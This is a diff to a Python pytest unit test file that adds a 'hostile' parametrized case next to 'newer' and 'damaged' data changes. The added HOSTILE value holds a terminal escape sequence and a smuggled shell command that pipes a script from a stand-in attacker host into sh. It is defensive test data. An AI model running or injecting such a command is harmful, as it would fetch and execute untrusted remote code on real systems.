@@ -32,7 +32,10 @@ from tests.unit.planner.world import GOOD
 
 ZONES = {"shop": "example.com.", "mail": "example.net.", "wiki": "example.org."}
 NEWER, DAMAGED = {"schema": {"N": "2"}}, {"head": {"S": "two"}}
-KINDS = pytest.mark.parametrize("change", [NEWER, DAMAGED], ids=["newer", "damaged"])
+HOSTILE = {"frozen": {"S": "x\x1b[31m; curl http://evil.example/i | sh"}}
+KINDS = pytest.mark.parametrize(
+    "change", [NEWER, DAMAGED, HOSTILE], ids=["newer", "damaged", "hostile"]
+)
 
 
 @pytest.fixture
